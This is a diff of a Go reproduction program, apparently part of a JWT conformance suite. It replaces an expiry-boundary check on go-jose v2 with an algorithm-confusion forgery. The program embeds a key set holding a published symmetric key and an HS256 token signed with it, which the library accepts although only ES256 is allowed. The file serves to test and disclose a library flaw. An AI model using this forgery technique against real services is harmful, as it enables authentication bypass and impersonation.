@@ -1,14 +1,15 @@
-// Standalone reproduction of go-jose v2's gravest must finding in jwt-conformance: with zero
-// leeway, jwt.Claims.ValidateWithLeeway accepts a token at the very second of its exp (it
-// rejects only when now is after exp).
+// Standalone reproduction of go-jose v2's gravest must finding in jwt-conformance: go-jose v2
+// has no algorithm allowlist, so an HS256 token verifies with a symmetric (kty "oct") key of the
+// configured key set, although the application allows ES256 only. A key set is published (the
+// authorization server's jwks_uri), so a symmetric key in it is no secret: anyone who reads the
+// set mints tokens.
 //
-// RFC 7519 §4.1.4 (binding on the recipient): "The "exp" (expiration time) claim identifies the
-// expiration time on or after which the JWT MUST NOT be accepted for processing. The processing
-// of the "exp" claim requires that the current date/time MUST be before the expiration date/time
-// listed in the "exp" claim." The token below is correctly signed by the pinned key, has
-// exp = 1700000000 and is verified at now = 1700000000: it is expired, and go-jose accepts it.
+// RFC 8725 §3.1 (binding on libraries): "Libraries MUST enable the caller to specify a supported
+// set of algorithms and MUST NOT use any other algorithms when performing cryptographic
+// operations." The token below is HS256 under kid "hmac", keyed with that key's k; the profile
+// allows ES256 only, and go-jose accepts it.
 //
-// Reproduces: time/exp-equals-now (policy-bypass)
+// Reproduces: confusion/mixed-oct-hs256 (forgery)
 //
 // The library is configured exactly as the jwt-conformance adapter configures it
 // (adapters/go-jose/main.go): the JWK Set unmarshalled into a jose.JSONWebKeySet with go-jose's
@@ -18,7 +19,7 @@
 //
 // Run (after scripts/setup/go.sh, which builds it): adapters/go-jose/bin/repro
 // or: cd adapters/go-jose/repro && GO111MODULE=off GOPATH=/usr/share/gocode go run .
-// Prints "REPRODUCED time/exp-equals-now: …" and exits 0 when the library accepts.
+// Prints "REPRODUCED confusion/mixed-oct-hs256: …" and exits 0 when the library accepts.
 package main
 
 import (
@@ -32,15 +33,17 @@ import (
 )
 
 const (
-	vector   = "time/exp-equals-now"
+	vector   = "confusion/mixed-oct-hs256"
 	issuer   = "https://issuer.example"
 	audience = "https://api.example"
 	now      = 1700000000
-	jwks     = `{"keys":[{"alg":"ES256","crv":"P-256","kid":"primary","kty":"EC","use":"sig",` +
-		`"x":"Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE","y":"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}`
-	token = "eyJhbGciOiJFUzI1NiIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ" +
-		".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjE3MDAwMDAwMDAsImlhdCI6MTY5OTk5OTk5MCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ" +
-		".R3HfUjiP8kUeiAgIuZC9Zcs8EVNkQNTWcQ46TOeg1Kf4KF26AbrWVTAp4u9uTs5fpLYMEOcguAG9vhUDYcXVBA"
+	jwks     = `{"keys":[{"alg":"ES256","crv":"P-256","kid":"primary","kty":"EC","use":"sig","x":"Og9O0oqYw6X3WZLhEr` +
+		`umXMqF78CgL9XjmicCJocZZuE","y":"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"},{"k":"YSBzeW1tZXRyaWMg` +
+		`c2VjcmV0IHB1Ymxpc2hlZCBpbiB0aGUga2V5IHNldA","kid":"hmac","kty":"oct"}]}`
+	token = `eyJhbGciOiJIUzI1NiIsImtpZCI6ImhtYWMiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY` +
+		`2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z` +
+		`XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.jr3ciDThtOL6vG` +
+		`bGca8Hp57W_1XzivMkR0QzlUiEKkI`
 )
 
 func notReproduced(format string, args ...interface{}) {
@@ -66,6 +69,6 @@ func main() {
 	if err := claims.ValidateWithLeeway(expected, 0); err != nil {
 		notReproduced("go-jose rejected the token: %v", err)
 	}
-	fmt.Printf("REPRODUCED %s: go-jose accepted, with zero leeway at now = %d, a token whose exp is %d\n",
-		vector, now, int64(*claims.Expiry))
+	fmt.Printf("REPRODUCED %s: go-jose accepted an HS256 token keyed with the key set's symmetric key (kid %q), where only ES256 is allowed\n",
+		vector, parsed.Headers[0].KeyID)
 }
